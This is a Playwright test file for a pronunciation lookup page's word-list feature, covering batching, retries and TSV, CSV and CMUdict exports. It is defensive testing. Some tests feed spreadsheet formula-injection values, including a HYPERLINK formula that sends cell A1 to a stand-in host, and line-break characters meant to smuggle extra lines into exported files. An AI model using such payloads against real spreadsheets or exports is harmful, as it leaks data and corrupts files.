import csv
import io
import json
import re
from pathlib import Path

import pytest
from playwright.sync_api import expect

from tests.support.browsing import bodies, launched, requested, texts, visit
from tests.support.live_service import running


@pytest.fixture(scope="module")
def browser():
    yield from launched()


@pytest.fixture(scope="module")
def service(browser, shipped_artifact, tmp_path_factory):
    log = tmp_path_factory.mktemp("page") / "log"
    with running(log, artifact=shipped_artifact, max_words=100) as service:
        service.wait_until_ready()
        yield service


def made_up(count):
    return [f"ko{chr(97 + i // 26 % 26)}{chr(97 + i % 26)}o" for i in range(count)]


def run_list(page, words, done="Done"):
    page.get_by_role("tab", name="A list").click()
    page.locator("#list").fill("\n".join(words))
    page.get_by_role("button", name="Pronounce the list").click()
    page.locator(".progress-text", has_text=done).wait_for()


def downloaded(page, name):
    with page.expect_download() as coming:
        page.get_by_role("button", name=f"Download as {name}").click()
    return coming.value.suggested_filename, Path(coming.value.path()).read_bytes().decode()


def test_a_long_list_goes_in_portions_and_loses_nothing(browser, service):
    words = [*made_up(298), "hello", "мир", "Ångström", "hello"]
    results = [
        r for i in range(0, 302, 100) for r in requested(service, *words[i : i + 100], stress=True)
    ]
    with visit(browser, service.url) as page:
        sent = bodies(page)
        run_list(page, words, "Done: 302 words")
        assert [len(body["words"]) for body in sent] == [100, 100, 100, 2]
        assert [word for body in sent for word in body["words"]] == words
        rows = page.locator(".list-table tbody tr")
        assert rows.locator("th").all_text_contents() == words
        assert rows.nth(0).locator(".text").all_text_contents() == texts(results[0])
        assert rows.nth(298).locator(".badge").text_content() == "Dictionary"
        assert rows.nth(299).locator(".fault").text_content() == results[299]["error"]["message"]
        assert rows.nth(300).locator(".warning").first.text_content() == results[300]["warnings"][0]
        summary = page.locator(".progress-text").text_content()
        assert "failed 1" in summary

        name, tsv = downloaded(page, "TSV")
        assert name == "pronunciations.tsv"
        assert tsv.splitlines()[0].split("\t")[:2] == ["word", "pronunciation"]
        wanted = [(result["word"], text) for result in results for text in texts(result) or [""]]
        assert [tuple(line.split("\t")[:2]) for line in tsv.splitlines()[1:]] == wanted

        name, text = downloaded(page, "CSV")
        assert name == "pronunciations.csv"
        table = list(csv.DictReader(io.StringIO(text, newline="")))
        assert [(row["word"], row["pronunciation"]) for row in table] == wanted
        failed = next(row for row in table if row["word"] == "мир")
        assert failed["error"] == results[299]["error"]["message"]
        assert float(table[0]["probability"]) == results[0]["pronunciations"][0]["probability"]

        name, text = downloaded(page, "CMUdict")
        assert name == "pronunciations.dict"
        assert text.splitlines()[0] == f"{words[0].upper()}  {texts(results[0])[0]}"
        hello = [line for line in text.splitlines() if line.startswith("HELLO")]
        assert hello == [
            f"HELLO{f'({i})' * (i > 0)}  {spoken}" for i, spoken in enumerate(texts(results[298]))
        ]
        assert f";;; мир: {results[299]['error']['message']}" in text

        page.get_by_label("Show").select_option("failed")
        assert rows.locator("th").all_text_contents() == ["мир"]
        page.get_by_label("Show").select_option("unsure")
        assert rows.locator("th").first.text_content() == "мир"


def recovered(cell):
    """A cell of a file as it was before its apostrophe."""
    return cell[1:] if re.match(r"'+\s*[=+\-@＝＋－＠]", cell) else cell


def test_no_cell_of_a_file_is_a_formula_and_none_is_lost(browser, service):
    words = ['=HYPERLINK("http://x.y/?"&A1', "@SUM(1+1", "+1", "-2+3", "＝1", "'=1", "'tis"]
    with visit(browser, service.url) as page:
        run_list(page, words)
        shown = page.locator(".list-table tbody th").all_text_contents()
        assert shown == words, "and nothing was changed before"
        _, text = downloaded(page, "CSV")
        rows = list(csv.reader(io.StringIO(text, newline="")))[1:]
        _, tsv = downloaded(page, "TSV")
        tabbed = [line.split("\t") for line in tsv.splitlines()[1:]]
    for table in (rows, tabbed):
        assert {len(row) for row in table} == {7}
        assert not [cell for row in table for cell in row if re.match(r"\s*[=+\-@＝＋－＠]", cell)]
        assert list(dict.fromkeys(recovered(row[0]) for row in table)) == words
    assert all(line.startswith('"') and line.endswith('"') for line in text.splitlines())


BREAKS = "\x1c\x1d\x1e\x85"


def test_a_line_break_leaves_no_line_of_a_file(browser, service):
    """What the field of the page does not take for a gap, and what a program may put there."""
    with visit(browser, service.url) as page:
        run_list(page, ["hello", *(f"日{each}EVIL" for each in BREAKS)])
        _, text = downloaded(page, "CMUdict")
        _, tsv = downloaded(page, "TSV")
        row = page.evaluate("""async () => {
            const { FORMATS } = await import(new URL("page/formats.js", document.baseURI));
            const rows = [..."\\n\\r\\v\\f\\u2028\\u2029"].map((each) => ({
                word: `a${each}HELLO  B AE D`, failure: `no${each}such`, result: null,
            }));
            return Object.values(FORMATS).map(({ write }) => write(rows));
        }""")
    made, _, comments = row
    for written in (text, comments):
        lines = written.splitlines()
        assert [line for line in lines if not line.startswith((";;; ", "HELLO"))] == []
        assert not any("B AE D" in line for line in lines if not line.startswith(";;;"))
    assert len(comments.splitlines()) == 6
    assert len(made.splitlines()) == 7
    assert "a\\u2028HELLO" in made
    assert len(tsv.splitlines()) == len(tsv.split("\n")) - 1


def test_the_dictionary_file_is_in_its_alphabet_whatever_is_shown(browser, service):
    with visit(browser, service.url, "alphabet=ipa") as page:
        run_list(page, ["tangerish"])
        [ipa] = requested(service, "tangerish", stress=True, alphabet="ipa")
        assert page.locator(".list-table .text").all_text_contents() == texts(ipa)
        _, text = downloaded(page, "CMUdict")
        [arpabet] = requested(service, "tangerish", stress=True)
        assert text == f"TANGERISH  {texts(arpabet)[0]}\n"
        assert page.locator(".list-table .text").all_text_contents() == texts(ipa)


def test_a_portion_that_fails_is_reported_in_its_rows_and_can_be_tried_again(browser, service):
    words = made_up(250)
    with visit(browser, service.url, refused=("ERR_CONNECTION_RESET",)) as page:
        answered = []

        def second_fails(route):
            answered.append(route)
            if len(answered) == 2:
                route.abort("connectionreset")
            else:
                route.continue_()

        page.route("**/pronounce", second_fails)
        run_list(page, words, "failed 100")
        assert page.locator("tr.failed").count() == 100
        assert page.locator("tr.failed .fault").first.text_content() == (
            "The server cannot be reached."
        )
        _, tsv = downloaded(page, "TSV")
        assert tsv.count("The server cannot be reached.") == 100
        page.get_by_role("button", name="Try the failed ones again").click()
        page.locator(".progress-text", has_text="failed 0").wait_for()
        assert page.locator(".list-table tbody tr").count() == 250
        assert not page.locator("tr.failed").count()


def test_a_busy_server_is_waited_for(browser, service):
    with visit(browser, service.url, refused=("429",)) as page:
        busy = []

        def first_is_refused(route):
            if busy:
                route.continue_()
            else:
                busy.append(route)
                problem = {"detail": "the queue is full", "code": "queue_full", "errors": []}
                route.fulfill(
                    status=429,
                    headers={"Retry-After": "1", "Content-Type": "application/problem+json"},
                    body=json.dumps(problem),
                )

        page.route("**/pronounce", first_is_refused)
        run_list(page, ["tangerish"], "failed 0")
        assert page.locator(".list-table .text").count() == 1


def test_a_list_can_be_stopped_and_gone_on_with(browser, service):
    words = made_up(250)
    with visit(browser, service.url) as page:
        held = []

        def second_hangs(route):
            held.append(route)
            if len(held) != 2:
                route.continue_()

        page.route("**/pronounce", second_hangs)
        page.get_by_role("tab", name="A list").click()
        page.locator("#list").fill("\n".join(words))
        page.get_by_role("button", name="Pronounce the list").click()
        page.locator(".progress-text", has_text="100 of 250").wait_for()
        page.get_by_role("button", name="Stop").click()
        page.locator(".progress-text", has_text="Stopped").wait_for()
        assert page.locator("tr.failed").count() == 150
        page.get_by_role("button", name="Try the failed ones again").click()
        page.locator(".progress-text", has_text="failed 0").wait_for()


def test_a_file_can_be_opened_and_too_many_typed_words_become_a_list(browser, service, tmp_path):
    (tmp_path / "words.txt").write_text("tangerish\nborrowish\n")
    with visit(browser, service.url) as page:
        page.locator("#words").fill(" ".join(made_up(40)))
        page.get_by_role("button", name="Make a list of them").click()
        assert page.locator("#list").input_value().split() == made_up(40)
        page.locator("#list-file").set_input_files(tmp_path / "words.txt")
        expect(page.locator("#list")).to_have_value("tangerish\nborrowish\n")
        page.locator("#list").press("Control+Enter")
        page.locator(".progress-text", has_text="Done: 2 words").wait_for()
